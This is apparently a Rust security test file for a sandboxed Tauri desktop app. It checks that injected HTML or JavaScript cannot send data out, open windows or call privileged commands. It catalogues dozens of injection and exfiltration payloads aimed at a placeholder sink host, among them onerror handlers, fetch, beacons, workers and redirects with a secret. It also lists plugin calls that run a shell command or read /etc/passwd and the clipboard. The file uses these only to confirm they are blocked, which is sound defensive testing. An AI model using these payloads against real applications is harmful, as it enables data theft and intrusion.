//! What somebody could do who got markup or a script into the page: nothing that reaches anyone, and nothing that
//! brings a page from elsewhere in.
//!
//! Scripts come through WebDriver, which no policy stops: so each attack starts from the worst case, a script that runs
//! already, and is stopped at the next step.

use std::collections::BTreeSet;
use std::io;
use std::thread::sleep;
use std::time::Duration;

use serde_json::{Value, json};

use crate::app::{App, SOON};
use crate::driver;
use crate::sink::Sink;
use crate::until::until;
use crate::world::{TASK_ENDS, World};

/// A request that was started leaves within this, also on a busy machine; the slowest was seen after 40 ms.
const SETTLED: Duration = Duration::from_millis(1500);

enum Attack {
    /// Markup that lands in the page. What is marked `data-go` is clicked or submitted.
    Markup(&'static str),
    /// A script that runs in the page; what it returns is kept for the failure's text.
    Script(&'static str),
}
use Attack::{Markup, Script};

/// In all of them `SINK` stands for the sink's address, `NAME` for the attack's name, and `STRIKE` for a script.
type Named = (&'static str, Attack);

/// The thirteen that were once measured against other settings of the web view.
const THIRTEEN: &[Named] = &[
    ("img-onerror", Markup(r#"<img src="data:," onerror="STRIKE">"#)),
    ("svg-onload", Markup(r#"<svg onload="STRIKE"></svg>"#)),
    ("javascript-link", Markup(r#"<a data-go href="javascript:STRIKE">x</a>"#)),
    (
        "style-import",
        Markup(
            "<style>@import url(SINK/NAME);</style><p style=\"background:url(SINK/NAME)\">x</p>",
        ),
    ),
    ("remote-image", Markup(r#"<img src="SINK/NAME">"#)),
    ("iframe", Markup(r#"<iframe src="SINK/NAME"></iframe>"#)),
    (
        "form-post",
        Markup(
            r#"<form data-go method="post" action="SINK/NAME"><input name="a" value="b"></form>"#,
        ),
    ),
    (
        "fetch",
        Script("return await fetch('SINK/NAME', { mode: 'no-cors' }).then(() => 'went', String)"),
    ),
    ("websocket", Script("new WebSocket('SINK/NAME'.replace('http', 'ws'))")),
    ("beacon", Script("return navigator.sendBeacon('SINK/NAME', 'secret')")),
    ("eval", Script("eval(`STRIKE`)")),
    ("window-open", Script("return String(window.open('SINK/NAME'))")),
    ("location", Script("location.href = 'SINK/NAME?secret=1'")),
];

/// Further ways out, most of them rarely thought of.
const OTHERS: &[Named] = &[
    (
        "video",
        Markup(r#"<video src="SINK/NAME" poster="SINK/NAME" autoplay preload="auto"></video>"#),
    ),
    ("audio", Markup(r#"<audio autoplay preload="auto"><source src="SINK/NAME"></audio>"#)),
    ("track", Markup(r#"<video src="data:video/webm,x"><track default src="SINK/NAME"></video>"#)),
    ("picture", Markup(r#"<picture><source srcset="SINK/NAME"><img src="data:,"></picture>"#)),
    ("object", Markup(r#"<object data="SINK/NAME"></object><embed src="SINK/NAME">"#)),
    ("input-image", Markup(r#"<input type="image" src="SINK/NAME">"#)),
    ("svg-image", Markup(r#"<svg><image href="SINK/NAME"/><use href="SINK/NAME#a"/></svg>"#)),
    ("svg-link", Markup(r#"<svg><a data-go href="SINK/NAME"><text>x</text></a></svg>"#)),
    ("stylesheet", Markup(r#"<link rel="stylesheet" href="SINK/NAME">"#)),
    ("icon", Markup(r#"<link rel="icon" href="SINK/NAME">"#)),
    ("manifest", Markup(r#"<link rel="manifest" href="SINK/NAME">"#)),
    ("prefetch", Markup(r#"<link rel="prefetch" href="SINK/NAME">"#)),
    (
        "preload",
        Markup(
            r#"<link rel="preload" as="script" href="SINK/NAME"><link rel="preload" as="fetch" href="SINK/NAME">"#,
        ),
    ),
    ("modulepreload", Markup(r#"<link rel="modulepreload" href="SINK/NAME">"#)),
    (
        "preconnect",
        Markup(
            r#"<link rel="preconnect" href="SINK"><link rel="preconnect" crossorigin href="SINK">"#,
        ),
    ),
    ("dns-prefetch", Markup(r#"<link rel="dns-prefetch" href="SINK">"#)),
    (
        "prerender",
        Markup(r#"<link rel="prerender" href="SINK/NAME"><link rel="next" href="SINK/NAME">"#),
    ),
    ("base", Markup(r#"<base href="SINK/NAME/"><img src="x.png">"#)),
    (
        "srcdoc",
        Markup(
            r#"<iframe srcdoc="<script>parent.struck.push('NAME')</script><img src='SINK/NAME'>"></iframe>"#,
        ),
    ),
    ("data-frame", Markup(r#"<iframe src="data:text/html,<img src='SINK/NAME'>"></iframe>"#)),
    (
        "javascript-frame",
        Markup(r#"<iframe src="javascript:parent.struck.push('NAME')"></iframe>"#),
    ),
    ("ping", Markup(r#"<a data-go href="SINK/NAME" ping="SINK/NAME">x</a>"#)),
    ("download-link", Markup(r#"<a data-go download href="SINK/NAME">x</a>"#)),
    ("blank-link", Markup(r#"<a data-go target="_blank" href="SINK/NAME">x</a>"#)),
    ("top-link", Markup(r#"<a data-go target="_top" href="SINK/NAME">x</a>"#)),
    ("blank-form", Markup(r#"<form data-go target="_blank" action="SINK/NAME"></form>"#)),
    ("refresh", Markup(r#"<meta http-equiv="refresh" content="0;url=SINK/NAME">"#)),
    (
        "policy",
        Markup(
            r#"<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="SINK/NAME">"#,
        ),
    ),
    (
        "script",
        Script(
            "document.head.append(Object.assign(document.createElement('script'), { src: 'SINK/NAME' }))",
        ),
    ),
    (
        "inline-script",
        Script(
            "document.head.append(Object.assign(document.createElement('script'), { text: `STRIKE` }))",
        ),
    ),
    ("module", Script("return await import('SINK/NAME').then(() => 'went', String)")),
    ("function", Script("new Function(`STRIKE`)()")),
    ("timeout", Script("setTimeout(`STRIKE`)")),
    (
        "request",
        Script("const asked = new XMLHttpRequest(); asked.open('GET', 'SINK/NAME'); asked.send()"),
    ),
    ("event-source", Script("new EventSource('SINK/NAME')")),
    (
        "font",
        Script(
            "return await new FontFace('x', 'url(SINK/NAME)').load().then(() => 'went', String)",
        ),
    ),
    ("background", Script("document.body.style.backgroundImage = 'url(SINK/NAME)'")),
    ("data-worker", Script("new Worker(`data:text/javascript,fetch('SINK/NAME')`)")),
    ("blob-worker", Script("new Worker(URL.createObjectURL(new Blob([`fetch('SINK/NAME')`])))")),
    ("shared-worker", Script("new SharedWorker(`data:text/javascript,fetch('SINK/NAME')`)")),
    (
        "service-worker",
        Script(
            "return await navigator.serviceWorker.register('SINK/NAME').then(() => 'went', String)",
        ),
    ),
    (
        "peer",
        Script(
            "const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }] });\
         peer.createDataChannel('x'); await peer.setLocalDescription()",
        ),
    ),
    ("assign", Script("location.assign('SINK/NAME')")),
    ("replace", Script("location.replace('SINK/NAME')")),
    ("history", Script("history.pushState(null, '', 'SINK/NAME')")),
    ("script-location", Script("location.href = `javascript:STRIKE`")),
    ("data-location", Script("location.href = `data:text/html,<img src='SINK/NAME'>`")),
    (
        "blob-location",
        Script(
            "location.href = URL.createObjectURL(new Blob([`<img src='SINK/NAME'>`], { type: 'text/html' }))",
        ),
    ),
    ("file-location", Script("location.href = 'file:///etc/passwd'")),
    ("blank-location", Script("location.href = 'about:blank'")),
    ("window-blank", Script("return String(window.open('about:blank'))")),
    ("named-window", Script("return String(window.open('SINK/NAME', 'main'))")),
];

/// What the page's policy must have refused by name. Were one missing, its attacks would have been no attacks.
const REFUSED: &[&str] = &[
    "connect-src",
    "font-src",
    "form-action",
    "frame-src",
    "img-src",
    "media-src",
    "object-src",
    "script-src",
    "style-src",
    "worker-src",
];

#[test]
fn nothing_that_gets_into_the_page_reaches_anyone_or_brings_anyone_in() -> io::Result<()> {
    let sink = Sink::start()?;
    driver::file(&format!("{}/seen", sink.url()))?;
    until("the sink to see what reaches it", SOON, || {
        Ok((sink.met() == ["GET /seen HTTP/1.1"]).then_some(()))
    })?;
    let world = World::start()?;
    let app = world.sandboxed()?;
    let own = app.run(
        "window.struck = []; window.refused = []; window.token = 'ours';\
         document.addEventListener('securitypolicyviolation', event => refused.push(event.effectiveDirective));\
         return location.href",
        &[],
    )?;
    assert!(own.as_str().is_some_and(|own| own.starts_with("tauri://localhost")), "{own}");
    assert_eq!(THIRTEEN.len(), 13);
    // Given to the program's own page; it is a script that would run in any other page, too.
    assert_eq!(app.run("return typeof window.__SHIWEN__", &[])?, "object");

    for (name, attack) in THIRTEEN.iter().chain(OTHERS) {
        let said = strike(&app, &sink, name, attack);
        let page = app.run("return [window.token, location.href, window.struck]", &[])?;
        assert_eq!(page, json!(["ours", own, []]), "{name}: {said}");
        assert!(!said.contains("went") && !said.contains("[object Window]"), "{name}: {said}");
    }
    sleep(SETTLED);
    assert_eq!(sink.met()[1..], [] as [String; 0], "something went out");
    let page = app.run("return [window.token, location.href, window.struck]", &[])?;
    assert_eq!(page, json!(["ours", own, []]));
    let refused: BTreeSet<String> = serde_json::from_value(app.run("return window.refused", &[])?)?;
    // Browsers name the two kinds of scripts and styles, or only the whole.
    let named = |wanted: &str| refused.iter().any(|directive| directive.starts_with(wanted));
    let missing: Vec<_> = REFUSED.iter().filter(|wanted| !named(wanted)).collect();
    assert!(missing.is_empty(), "not refused: {missing:?}, but {refused:?}");
    assert_eq!(app.windows()?, 1, "another window was opened");

    // After all this it still is the program, and does its work.
    app.run(
        "document.body.style.backgroundImage = ''; document.getElementById('struck-at').remove()",
        &[],
    )?;
    app.submit("sb-ok-after")?;
    app.see_task("sb-ok-after", "succeeded", TASK_ENDS)?;
    assert_eq!(sink.met().len(), 1);
    app.close()
}

/// Commands of Tauri and its plugins that a page could use to read files, run programs, open addresses or windows, or
/// read the clipboard behind the program's back.
const FOREIGN: &[(&str, &str)] = &[
    ("plugin:shell|execute", r#"{"program":"id","args":[],"options":{},"onEvent":0}"#),
    ("plugin:shell|open", r#"{"path":"https://a.example/"}"#),
    ("plugin:fs|read_text_file", r#"{"path":"/etc/passwd"}"#),
    ("plugin:fs|write_text_file", r#"{"path":"/tmp/x","contents":"x"}"#),
    ("plugin:http|fetch", r#"{"clientConfig":{"method":"GET","url":"https://a.example/"}}"#),
    ("plugin:opener|open_url", r#"{"url":"https://a.example/"}"#),
    ("plugin:opener|open_path", r#"{"path":"/etc/passwd"}"#),
    ("plugin:opener|reveal_item_in_dir", r#"{"paths":["/etc/passwd"]}"#),
    ("plugin:dialog|open", r#"{"options":{}}"#),
    ("plugin:dialog|save", r#"{"options":{}}"#),
    ("plugin:dialog|message", r#"{"message":"x"}"#),
    ("plugin:clipboard-manager|read_text", "{}"),
    ("plugin:clipboard-manager|write_text", r#"{"text":"x"}"#),
    ("plugin:window-state|save_window_state", r#"{"flags":1}"#),
    (
        "plugin:webview|create_webview_window",
        r#"{"options":{"label":"x","url":"https://a.example/"}}"#,
    ),
    ("plugin:webview|internal_toggle_devtools", "{}"),
    ("plugin:window|create", r#"{"options":{"label":"x"}}"#),
    ("plugin:window|close", r#"{"label":"main"}"#),
    ("plugin:window|destroy", r#"{"label":"main"}"#),
    ("plugin:event|emit", r#"{"event":"task-changes","payload":null}"#),
    ("plugin:path|resolve_directory", r#"{"directory":1}"#),
    ("plugin:app|version", "{}"),
    ("plugin:app|app_hide", "{}"),
    ("plugin:image|from_path", r#"{"path":"/etc/passwd"}"#),
    ("plugin:menu|new", r#"{"kind":"Menu"}"#),
    ("plugin:tray|new", r#"{"options":{}}"#),
    ("plugin:resources|close", r#"{"rid":0}"#),
    ("no_such_command", "{}"),
];

#[test]
fn the_page_may_call_the_programs_own_commands_and_no_others() -> io::Result<()> {
    let world = World::start()?;
    let app = world.sandboxed()?;
    world.desktop.set_clipboard("前面复制的")?;
    for (command, arguments) in FOREIGN {
        let arguments = serde_json::from_str(arguments)?;
        let said = match app.call(command, arguments) {
            Ok(answer) => panic!("{command} answered {answer}"),
            Err(said) => said.to_string(),
        };
        assert!(said.contains("not allowed") || said.contains("not found"), "{command}: {said}");
    }
    assert_eq!(world.desktop.clipboard()?, "前面复制的");
    assert_eq!(app.windows()?, 1);
    // Files of the disk are no pages, and no part of them.
    for address in
        ["file:///etc/passwd", "asset://localhost/etc/passwd", "tauri://localhost/../../etc/passwd"]
    {
        let script = "return await fetch(arguments[0]).then(answer => answer.text(), String)";
        let said = app.run_async(script, &[json!(address)])?;
        assert!(said.as_str().is_some_and(|said| !said.contains("root:")), "{address}: {said}");
    }
    // The same way in works for what is allowed.
    assert_eq!(app.call("app_state", json!({}))?["sandbox"], true);
    Ok(())
}

/// Lets one attack happen and says what the page said to it.
fn strike(app: &App<'_>, sink: &Sink, name: &str, attack: &Attack) -> String {
    let script = format!("struck.push('{name}')");
    let fill = |text: &str| {
        let text = text.replace("STRIKE", &script).replace("SINK", &sink.url());
        text.replace("NAME", name).replace("HOST", &sink.host())
    };
    let said = match attack {
        Markup(markup) => app.run_async(
            "const place = document.getElementById('struck-at') ?? document.body.appendChild(\
               Object.assign(document.createElement('div'), { id: 'struck-at' }));\
             place.innerHTML = arguments[0];\
             for (const one of place.querySelectorAll('[data-go]'))\
               one.tagName === 'FORM' ? one.submit()\
                 : one.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));\
             await new Promise(done => setTimeout(done, 30))",
            &[json!(fill(markup))],
        ),
        Script(script) => app.run_async(
            &format!(
                "const said = await (async () => {{ {} }})().catch(String);\
                      await new Promise(done => setTimeout(done, 30)); return said",
                fill(script)
            ),
            &[],
        ),
    };
    match said {
        Ok(Value::String(said)) => said,
        Ok(said) => said.to_string(),
        Err(err) => err.to_string(),
    }
}
